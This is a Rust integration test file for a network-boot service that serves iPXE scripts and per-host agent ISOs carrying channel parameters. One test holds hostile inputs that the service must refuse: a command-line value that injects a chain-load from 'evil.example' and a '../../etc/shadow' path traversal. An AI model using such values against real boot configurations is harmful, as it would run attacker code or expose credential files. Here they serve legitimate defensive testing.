//! The real boot service: engine entries become `rivet-pxe` host-table entries, served as
//! iPXE scripts by the boot HTTP server, whose fetches are the boot observations.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use rivet_agent::channel::ChannelParams;
use rivet_bmc::Credentials;
use rivet_engine::drivers::boot::{BootSettings, BootSetupError, RealBoot};
use rivet_engine::drivers::{
    AgentToken, BmcTarget, BootEntry, BootService, DriverErrorKind, HostTarget,
};
use rivet_engine::lifecycle::{BootMethod, BootMode, HostId, MacAddr, Timestamp};
use rivet_tests::scratch_dir;

const CA: &str = "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89";
const MAC: MacAddr = MacAddr::new([0x52, 0x54, 0, 0xb0, 0, 7]);

fn settings(files: &std::path::Path) -> BootSettings {
    BootSettings {
        engine_url: "https://10.0.0.1:8443".into(),
        http_listen: "127.0.0.1:0".parse().unwrap(),
        files_root: Some(files.to_owned()),
        ..BootSettings::default()
    }
}

fn target(id: HostId) -> HostTarget {
    HostTarget {
        id,
        name: Arc::from("boot-host"),
        boot_mac: Some(MAC),
        boot_method: BootMethod::NetworkBoot,
        boot_mode: BootMode::Uefi,
        bmc: BmcTarget {
            address: "ipmi://10.0.0.9".into(),
            credentials: Credentials::new("u", "p"),
            verify_tls: true,
        },
    }
}

async fn get(boot: &RealBoot, path: &str) -> (u16, String) {
    let response = reqwest::get(format!("http://{}{path}", boot.http_addr()))
        .await
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn agent_entries_boot_the_agent_with_the_channel_parameters() {
    let files = scratch_dir("boot-files");
    std::fs::create_dir_all(files.path().join("rivet-agent")).unwrap();
    std::fs::write(files.path().join("rivet-agent/vmlinuz"), b"kernel bytes").unwrap();
    let state = scratch_dir("boot-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let host = HostId::from_random([7; 16]);
    let token = AgentToken::new("dG9rZW4tZm9yLXRoZS1ib290LXRlc3QtMDEyMzQ1Njc".into());
    let script_path = "/boot/52-54-00-b0-00-07.ipxe";
    let since = Timestamp::now();
    assert_eq!(
        boot.observations(host, Some(MAC), since).agent_fetched,
        None
    );
    assert_eq!(
        get(&boot, script_path).await.0,
        404,
        "no boot until the engine sets one"
    );

    boot.set_entry(
        MAC,
        BootEntry::Agent {
            host,
            token: token.clone(),
        },
    )
    .await
    .unwrap();
    let (status, script) = get(&boot, script_path).await;
    assert_eq!(status, 200, "{script}");
    let kernel = script
        .lines()
        .find(|line| line.starts_with("kernel "))
        .unwrap_or_else(|| panic!("no kernel line in {script}"));
    assert!(kernel.contains("/files/rivet-agent/vmlinuz"), "{kernel}");
    // What the agent will read from /proc/cmdline.
    let params = ChannelParams::from_cmdline(kernel).unwrap();
    assert_eq!(params.url.as_str(), "https://10.0.0.1:8443/");
    assert_eq!(params.token.expose(), token.expose());
    assert_eq!(params.host, Some(host.to_string()));
    assert_eq!(
        params.ca,
        rivet_agent::channel::Fingerprint::parse(CA).unwrap()
    );
    assert!(kernel.contains("console=ttyS0,115200"), "{kernel}");
    let seen = boot.observations(host, Some(MAC), since);
    assert!(seen.agent_fetched.is_some_and(|at| at >= since));
    assert!(seen.dhcp.is_some());
    assert_eq!(
        boot.observations(host, Some(MacAddr::new([2; 6])), since),
        Default::default()
    );
    let (status, body) = get(&boot, "/files/rivet-agent/vmlinuz").await;
    assert_eq!((status, body.as_str()), (200, "kernel bytes"));

    // Disk entries chain to the local disk; removed entries get no boot.
    boot.set_entry(MAC, BootEntry::Disk).await.unwrap();
    let (status, script) = get(&boot, script_path).await;
    assert_eq!(status, 200);
    assert!(
        script.contains("local disk") && !script.contains("rivet.token"),
        "{script}"
    );
    boot.remove(MAC).await.unwrap();
    assert_eq!(get(&boot, script_path).await.0, 404);
    assert_eq!(boot.table().len(), 0);

    // No ISO under files_root: virtual media cannot work, and says why.
    let err = boot.agent_iso(&target(host), &token).await.unwrap_err();
    assert_eq!(err.kind, DriverErrorKind::Unsupported);
    assert!(err.message.contains("rivet-agent.iso"), "{}", err.message);
    assert_eq!(
        boot.uefi_http_url(&target(host)),
        format!("http://{}/ipxe/snponly.efi", boot.http_addr())
    );
}

/// The field `RealBoot::start` names when it refuses `settings`.
async fn refused_field(settings: &BootSettings, state: &std::path::Path) -> &'static str {
    match RealBoot::start(settings, CA, state).await.unwrap_err() {
        BootSetupError::Invalid { field, .. } => field,
        other => panic!("expected a refused setting, got {other}"),
    }
}

#[tokio::test]
async fn settings_that_would_inject_ipxe_commands_or_leak_the_token_are_refused() {
    let files = scratch_dir("boot-files");
    let state = scratch_dir("boot-state");
    let mut injected = settings(files.path());
    injected.agent_cmdline = "quiet || chain http://evil.example/x".into();
    assert_eq!(
        refused_field(&injected, state.path()).await,
        "agent_cmdline"
    );
    let mut plain = settings(files.path());
    plain.engine_url = "http://10.0.0.1:8443".into();
    assert_eq!(refused_field(&plain, state.path()).await, "engine_url");
    let mut kernel = settings(files.path());
    kernel.agent_kernel = "../../etc/shadow".into();
    assert_eq!(refused_field(&kernel, state.path()).await, "agent_kernel");
    let err = RealBoot::start(&settings(files.path()), "sha256:12", state.path())
        .await
        .unwrap_err();
    assert!(matches!(err, BootSetupError::Fingerprint(_)), "{err}");
}

/// Builds an ISO with xorriso holding `rivet/cmdline` (the slot, as `just agent-image`
/// writes it, when `slot` is set) and a filler file, and returns its path.
fn xorriso_iso(dir: &std::path::Path, slot: bool) -> std::path::PathBuf {
    let xorriso = rivet_tests::require_tool("xorriso");
    let tree = dir.join("tree");
    std::fs::create_dir_all(tree.join("rivet")).unwrap();
    std::fs::create_dir_all(tree.join("boot")).unwrap();
    std::fs::write(tree.join("boot/filler"), vec![0x5a; 300_000]).unwrap();
    let cmdline = if slot {
        format!("{:<4095}\n", "rivet-cmdline-slot-v1 rivet.link_timeout=5")
    } else {
        "rivet.job=inventory\n".to_owned()
    };
    std::fs::write(tree.join("rivet/cmdline"), cmdline).unwrap();
    let iso = dir.join("rivet-agent/rivet-agent.iso");
    std::fs::create_dir_all(iso.parent().unwrap()).unwrap();
    let out = std::process::Command::new(xorriso)
        .args([
            "-as",
            "mkisofs",
            "-quiet",
            "-R",
            "-J",
            "-V",
            "RIVET_AGENT",
            "-o",
        ])
        .arg(&iso)
        .arg(&tree)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    iso
}

/// What xorriso reads as `rivet/cmdline` in the ISO at `iso`.
fn cmdline_in(iso: &std::path::Path) -> String {
    let into = iso.with_extension("cmdline");
    let out = std::process::Command::new("xorriso")
        .args(["-osirrox", "on", "-indev"])
        .arg(iso)
        .args(["-extract", "/rivet/cmdline"])
        .arg(&into)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read_to_string(into).unwrap()
}

#[tokio::test]
async fn virtual_media_hosts_get_their_own_iso_with_the_channel_parameters() {
    let files = scratch_dir("iso-files");
    let template = xorriso_iso(files.path(), true);
    let state = scratch_dir("iso-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let (first, second) = (HostId::from_random([1; 16]), HostId::from_random([2; 16]));
    let token = AgentToken::new("aXNvLXRva2VuLWZvci10aGUtdmlydHVhbC1tZWRpYS10ZXN0".into());
    let since = Timestamp::now();
    let url = boot.agent_iso(&target(first), &token).await.unwrap();
    let other = boot
        .agent_iso(&target(second), &AgentToken::new("b3RoZXI".into()))
        .await
        .unwrap();
    assert!(
        url.ends_with("/rivet-agent.iso") && url != other,
        "{url} {other}"
    );
    assert!(
        !url.contains(token.expose()),
        "the token stays out of the URL"
    );
    assert_eq!(boot.observations(first, None, since).agent_fetched, None);

    let client = reqwest::Client::new();
    let whole = client.get(&url).send().await.unwrap();
    assert_eq!(whole.status(), 200);
    assert_eq!(whole.headers()["accept-ranges"], "bytes");
    let bytes = whole.bytes().await.unwrap();
    let template_bytes = std::fs::read(&template).unwrap();
    assert_eq!(bytes.len(), template_bytes.len());
    assert!(
        boot.observations(first, None, since)
            .agent_fetched
            .is_some()
    );
    assert_eq!(boot.observations(second, None, since).agent_fetched, None);

    // xorriso reads the host's ISO as a sound ISO whose cmdline is the agent's parameters.
    let host_iso = files.path().join("host.iso");
    std::fs::write(&host_iso, &bytes).unwrap();
    let line = cmdline_in(&host_iso);
    assert_eq!(line.len(), 4096);
    let params = ChannelParams::from_cmdline(&line).unwrap();
    assert_eq!(params.token.expose(), token.expose());
    assert_eq!(params.host, Some(first.to_string()));
    assert_eq!(params.url.as_str(), "https://10.0.0.1:8443/");
    assert!(
        line.contains("rivet.link_timeout=5"),
        "the template's own parameters stay: {line}"
    );
    assert!(!line.contains("rivet-cmdline-slot"), "{line}");
    let differing = bytes
        .iter()
        .zip(&template_bytes)
        .filter(|(a, b)| a != b)
        .count();
    assert!(
        differing > 0 && differing <= 4096,
        "{differing} bytes differ"
    );

    // A BMC that mounts the ISO reads it by ranges.
    let part = client
        .get(&url)
        .header("range", "bytes=32768-34815")
        .send()
        .await
        .unwrap();
    assert_eq!(part.status(), 206);
    let total = bytes.len();
    assert_eq!(
        part.headers()["content-range"],
        format!("bytes 32768-34815/{total}").as_str()
    );
    assert_eq!(part.bytes().await.unwrap(), bytes.slice(32768..34816));
    let past = client
        .get(&url)
        .header("range", format!("bytes={total}-"))
        .send()
        .await
        .unwrap();
    assert_eq!(past.status(), 416);

    // A new ISO for the same host replaces the old one; unknown nonces are 404.
    let again = boot.agent_iso(&target(first), &token).await.unwrap();
    assert_ne!(again, url);
    assert_eq!(client.get(&url).send().await.unwrap().status(), 404);
    assert_eq!(client.get(&again).send().await.unwrap().status(), 200);
    let guessed = format!(
        "http://{}/iso/{}/rivet-agent.iso",
        boot.http_addr(),
        "0".repeat(32)
    );
    assert_eq!(client.get(&guessed).send().await.unwrap().status(), 404);
}

#[tokio::test]
async fn an_agent_iso_without_the_slot_is_refused_with_the_fix() {
    let files = scratch_dir("iso-old");
    xorriso_iso(files.path(), false);
    let state = scratch_dir("iso-old-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let err = boot
        .agent_iso(
            &target(HostId::from_random([3; 16])),
            &AgentToken::new("dA".into()),
        )
        .await
        .unwrap_err();
    assert_eq!(err.kind, DriverErrorKind::Unsupported);
    assert!(
        err.message.contains("no rivet/cmdline slot") && err.message.contains("just agent-image"),
        "{}",
        err.message
    );
}
